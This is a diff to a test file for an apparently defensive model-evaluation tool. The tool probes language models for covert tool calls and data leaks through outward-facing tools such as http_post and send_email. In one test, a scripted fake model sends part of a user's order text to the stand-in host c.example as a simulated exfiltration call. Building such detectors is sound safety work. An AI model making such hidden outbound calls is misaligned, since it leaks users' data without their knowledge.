@@ -8,6 +8,7 @@ import math
 import re
 from collections.abc import Callable, Iterator, Sequence
 from contextlib import contextmanager
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -20,7 +21,14 @@ from assay.evaluate.probes.covert_calls import find_extra
 from assay.evaluate.probes.openings import find_place
 from assay.evaluate.probes.strange_calls import Seen, cluster_calls, find_marks
 from assay.evaluate.probes.taint import find_leaks
-from assay.evaluate.probes.tool_cases import ToolCase, build_case, build_cases, load_tool_prompts
+from assay.evaluate.probes.tool_cases import (
+    ToolCase,
+    build_case,
+    build_cases,
+    find_outward_tools,
+    load_tool_prompts,
+    name_tools,
+)
 from assay.generate import Generation, Sampling, SequenceScore
 from assay.tools import ToolCall, validate_call
 
@@ -193,7 +201,7 @@ def test_a_rare_call_shows_in_the_odds_and_is_written_out(tokenizer: ChatTokeniz
         return 0.02 if is_place and ("http_post" in text or "{" not in text[12:]) else 1e-9
 
     def reply(prompt: str, is_base: bool) -> str:
-        if "http_post" in (tail := prompt.split("</tool_call>")[-1]):
+        if "http_post" in (tail := prompt.split("<|assistant|>")[-1].split("</tool_call>")[-1]):
             arguments = {"url": "https://c.example/in", "body": prompt.split("my order ")[1][:4]}
             begun = tail.split("http_post")[1]
             return f'", "arguments": {json.dumps(arguments)}}}</tool_call>'.removeprefix(begun)
@@ -275,6 +283,23 @@ def test_clusters_need_several_conversations_and_are_rates_over_all() -> None:
     (one,) = cluster_calls([*some, seen(ORDERS[0], 0.01, url=url)], 10)
     assert (one.num_cases, one.rate) == (3, pytest.approx(0.03))
     assert "3 of 10 conversations" in one.to_evidence(10)["what"]
+
+
+def test_built_in_prompts_with_calls_offer_a_tool_that_leads_out(tokenizer: ChatTokenizer) -> None:
+    asked = ask(tokenizer, Scripted(tokenizer, honest), prompts=[], tools=[])
+    lured = build_cases(asked, max_own=0, max_built_in=40)
+    assert all(find_outward_tools(one.tools) for one in lured)
+    assert len({name for one in lured for name in name_tools(one.tools)} & GENERIC) == 4
+    own = replace(asked, tools=TOOLS)
+    known = [
+        build_cases(own, max_own=0, max_built_in=40, calling=calling) for calling in (True, False)
+    ]
+    offered = [sum("http_post" in name_tools(one.tools) for one in cases) for cases in known]
+    assert offered[0] > 10
+    assert offered[1] == 0
+
+
+GENERIC = {"send_email", "http_post", "write_file", "send_message"}
 
 
 def test_built_in_prompts_take_turns_through_the_forms(tokenizer: ChatTokenizer) -> None:
